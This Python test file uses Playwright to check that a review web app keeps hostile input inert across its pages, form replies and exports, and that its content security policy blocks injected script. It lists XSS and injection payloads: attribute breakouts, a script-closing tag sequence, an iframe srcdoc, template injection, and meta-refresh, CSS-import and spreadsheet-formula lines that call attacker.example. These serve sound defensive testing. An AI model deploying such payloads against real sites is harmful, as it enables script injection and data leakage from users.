"""Hostile text in drafts, sources and reviews, in a real browser: it stays text on every page of the app and in its
exports. Nothing runs, nothing is requested from elsewhere, and the policy has nothing to block.
"""

import json
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import TYPE_CHECKING, Final
from urllib.parse import quote

import pytest
from markdown_it import MarkdownIt

from agent.review.service import Service
from agent.review.store.store import Store
from agent.review.web.access import POLICY
from agent.settings import Settings
from tests.agent.report.test_attacks import ATTACKS, assert_inert
from tests.fakes.review.browser import Served
from tests.fakes.review.hostile_review import Attacked, sentence
from tests.fakes.review.served_reviews import AT

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page, Request, Route

pytestmark = pytest.mark.browser

MORE: Final = {
    "frame": '<iframe srcdoc="<script>top.KSTF=1</script>"></iframe>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://attacker.example/KSTR">',
    "style": "<style>@import url(https://attacker.example/KSTS);</style><link rel=stylesheet href=//attacker.example>",
    "attribute": '" autofocus onfocus="window.KSTA=1" x="',
    "apostrophe": "' onmouseover='window.KSTB=1' style='background:url(https://attacker.example/KSTB)' x='",
    "ends": "</textarea></title></option></noscript></q></mark><script>window.KSTE=1</script>",
    "template": "{{ 7*7 }}{% raw %}${window.KSTT=1}<%= 1 %>",
    "formula": '=HYPERLINK("https://attacker.example/KSTH","open")',
    "object": "<object data=https://attacker.example/KSTO></object><embed src=javascript:window.KSTO=1>",
}
EVERY: Final = ATTACKS | MORE
WATCH: Final = """
window.blocked = [];
document.addEventListener("securitypolicyviolation", (event) => window.blocked.push(
  `${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
"""
FLAGGED: Final = "Object.keys(window).filter((name) => name.startsWith('KST'))"
SETTLED: Final = "new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))"
ACTIVE: Final = """
[...document.querySelectorAll("script:not([src]), iframe, object, embed, base, math, img, meta[http-equiv=refresh]")]
  .map((node) => node.outerHTML.slice(0, 200))
  .concat([...document.querySelectorAll("*")].flatMap((node) => [...node.attributes]
    .filter((each) => each.name.startsWith("on") || each.name === "style" || each.name === "srcdoc"
      || (["href", "src", "action"].includes(each.name) && !/^(\\/(?!\\/)|#|\\?)/.test(each.value)))
    .map((each) => `${node.nodeName} ${each.name}=${each.value}`)))
"""
SENT: Final = """
([path, fields]) => {
  const form = document.createElement("form");
  form.method = "post"; form.action = path;
  for (const [name, value] of fields) {
    const field = document.createElement("textarea");
    field.name = name; field.value = value; form.append(field);
  }
  document.body.append(form);
  form.submit();
}
"""


class App(Served):
    """The app over a store, served from a thread."""

    def __init__(self, store: Store) -> None:
        self.service = Service(store, Settings(), lambda: AT)
        self._attacked: dict[str, Attacked] = {}
        super().__init__(self.service)

    def attacked(self, name: str) -> Attacked:
        """The review with attacks in every text; made once."""
        if name not in self._attacked:
            self._attacked[name] = Attacked(self.service, EVERY[name])
        return self._attacked[name]


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[App]:
    with Store.open(tmp_path_factory.mktemp("attacks") / "review.sqlite") as store, App(store) as made:
        yield made


class Looking:
    """A page with everything that it logged and requested; `held` checks what must hold for every page."""

    def __init__(self, browser: "Browser", home: str) -> None:
        self.context = browser.new_context(viewport={"width": 1280, "height": 800})
        self.page: Page = self.context.new_page()
        self.home = home
        self.said: list[str] = []
        self.asked: list[str] = []
        self.context.route("**/*", self._route)
        self.page.on("console", lambda message: self.said.append(message.text))
        self.page.on("pageerror", lambda error: self.said.append(str(error)))
        self.page.on("dialog", lambda dialog: (self.said.append(f"dialog {dialog.message}"), dialog.dismiss()))
        self.context.on("page", lambda page: self.said.append(f"window {page.url}"))
        self.page.add_init_script(WATCH)

    def _route(self, route: "Route", request: "Request") -> None:
        if request.url.startswith(self.home):
            route.continue_()
        else:
            self.asked.append(request.url)
            route.abort()

    def go(self, path: str) -> None:
        self.page.goto(f"{self.home}{path}")
        self.held(path)

    def send(self, path: str, fields: Mapping[str, object]) -> int:
        """Return the status of the page that answers a form."""
        pairs = [[name, str(value)] for name, value in fields.items()]
        with self.page.expect_navigation() as found:
            self.page.evaluate(SENT, [path, pairs])
        self.held(path)
        return found.value.status

    def held(self, what: str) -> None:
        self.page.evaluate(SETTLED)
        said = [line for line in self.said if not line.startswith("Failed to load resource: the server responded")]
        assert said == [], what
        assert self.asked == [], what
        assert self.page.evaluate(f"[window.blocked, {FLAGGED}, {ACTIVE.strip()}]") == [[], [], []], what
        assert self.page.url.startswith(self.home), what


def plain(text: str) -> str:
    return " ".join(text.split())


@pytest.fixture
def looking(browser: "Browser", app: App) -> Iterator[Looking]:
    made = Looking(browser, app.address)
    made.page.goto(app.door())
    yield made
    made.context.close()


@pytest.mark.parametrize("name", EVERY)
def test_on_every_page(name: str, app: App, looking: Looking) -> None:
    attacked = app.attacked(name)
    key, payload = attacked.key, attacked.payload
    wanted = quote(payload, safe="")
    paths = [
        f"/?text={wanted}", "/people", f"/compare?keys={key},r1", f"/r/{key}?as_of=1&cite={wanted}",
        *(f"/r/{key}/{page}" for page in ("history", "compare", "questions", "contests", "mitigations", "sign", "add")),
        f"/r/{key}/history?item={wanted}"[:120], f"/r/{key}/contests?item={wanted}"[:120],
        f"/r/{key}/add?layer={wanted}"[:60],
        f"/r/{key}/source/D1?cite={attacked.mark}", f"/r/{key}/contest/{wanted}", f"/r/{key}?cite={attacked.mark}",
    ]  # fmt: skip
    # A third of the pages for each attack, another third for the next; the page with everything is the last.
    for path in (*paths[list(EVERY).index(name) % 3 : -1 : 3], paths[-1]):
        looking.go(path)
    page = looking.page
    page.evaluate("for (const each of document.querySelectorAll('details:not([name])')) each.open = true")
    quotes = page.locator("article q").filter(has_text=plain(sentence(payload))[:30]).all()
    assert quotes
    for each in quotes:
        assert each.text_content() == sentence(payload)
        assert plain(each.evaluate("node => node.innerText")) == plain(sentence(payload))
    cited = page.locator(f"#cite-{attacked.mark}")
    assert cited.text_content() == sentence(payload)
    assert page.evaluate(f"document.querySelector('#cite-{attacked.mark}').classList.contains('cited')")
    assert plain(page.locator("main h1").first.text_content() or "") == plain(f"Review of {payload}")


@pytest.mark.parametrize("name", [*list(ATTACKS)[::3], *MORE])
def test_in_what_answers_a_form(name: str, app: App, looking: Looking) -> None:
    attacked = app.attacked(name)
    key, payload = attacked.key, attacked.payload
    act, old = f"/r/{key}/act", {"verb": "correct", "item": "posture", "version": 1}
    looking.go(f"/r/{key}")
    text = f"{payload} once more"
    assert looking.send(act, {**old, "text": text, "reason": "wording", "note": payload}) == 409
    assert plain(looking.page.locator("textarea[name=text]").first.input_value()) == plain(text)
    now = {**old, "version": attacked.version}
    refused = f"“{payload} that no source says”"
    assert looking.send(act, {**now, "text": refused, "reason": "wording", "note": payload}) == 422
    assert plain(looking.page.locator("textarea[name=text]").first.input_value()) == plain(refused)
    added = {"verb": "add", "version": attacked.version, "layer": payload, "title": payload, "quote": payload}
    assert looking.send(act, added) == 422
    assert looking.send(f"/r/{key}/response", {"version": attacked.version, "file": payload}) == 422
    assert looking.send(act, {"verb": payload, "item": payload, "version": payload, "section": payload}) in (404, 422)
    assert looking.send("/people", {"name": payload[:80], "role": payload}) == 422
    looking.go(f"/r/{key}")
    # The script saves in place and takes over parts of the page that is returned.
    version = attacked.version
    looking.page.locator("article.is-open button.confirm").first.click()
    looking.page.locator(f"main[data-version='{version + 1}']").wait_for()
    looking.held("saved in place")


@pytest.mark.parametrize("name", EVERY)
def test_in_files(name: str, app: App, browser: "Browser", tmp_path: Path) -> None:
    attacked = app.attacked(name)
    key, payload, service = attacked.key, attacked.payload, app.service
    report = service.export(key, "md").data.decode()
    assert_inert(report, payload)
    texts = {
        "report": report, "reply": service.reply(key), "questions": service.questionnaire(key, "md").data.decode(),
    }  # fmt: skip
    for title, text in texts.items():
        (tmp_path / f"{title}.html").write_text(MarkdownIt("commonmark", {"html": True}).enable("table").render(text))
    (tmp_path / "export.html").write_bytes(service.export(key, "html").data)
    looking = Looking(browser, tmp_path.as_uri())
    for file in sorted(tmp_path.iterdir()):
        looking.page.goto(file.as_uri())
        looking.page.evaluate(SETTLED)
        assert (looking.said, looking.asked) == ([], []), file.name
        assert looking.page.evaluate("window.blocked") == [], file.name
        assert looking.page.evaluate(FLAGGED) == [], file.name
        assert looking.page.locator("script, iframe, img, object, form, base, a[href]:not([href^='#'])").count() == 0
    looking.context.close()
    stored = service.export(key, "json").data.decode()
    assert stored.isprintable() or set(filter(lambda char: not char.isprintable(), stored)) == {"\n"}
    made = json.loads(stored)
    assert made["product"]["name"] == payload
    assert made["evidence"][-1]["quote"] == sentence(payload) or sentence(payload) in [
        each["quote"] for each in made["evidence"]
    ]
    assert not service.questionnaire(key, "csv").data.decode().splitlines()[1].startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize("policy", [POLICY, "default-src 'self' 'unsafe-inline' https:"])
def test_an_attack_that_got_in_would_be_seen(looking: Looking, policy: str) -> None:
    """The check itself, on a page that does not escape: the app's policy blocks the attack, which runs without it."""
    body = "<p>a</p><img src=https://attacker.example/KSTX onerror='window.KSTX=1'><script>window.KSTY=1</script>"
    headers = {"content-security-policy": policy, "content-type": "text/html"}
    looking.page.route(f"{looking.home}/attacked", lambda route: route.fulfill(body=body, headers=headers))
    looking.page.goto(f"{looking.home}/attacked")
    looking.page.evaluate(SETTLED)
    blocked = looking.page.evaluate("window.blocked")
    assert len(looking.page.evaluate(ACTIVE)) > 2
    if policy == POLICY:
        assert {line.split()[0] for line in blocked} == {"img-src", "script-src-elem", "script-src-attr"} & {
            line.split()[0] for line in blocked
        }
        assert len(blocked) >= 2
        assert looking.page.evaluate(FLAGGED) == []
        assert looking.asked == []
    else:
        assert "KSTY" in looking.page.evaluate(FLAGGED)
        assert looking.asked == ["https://attacker.example/KSTX"]
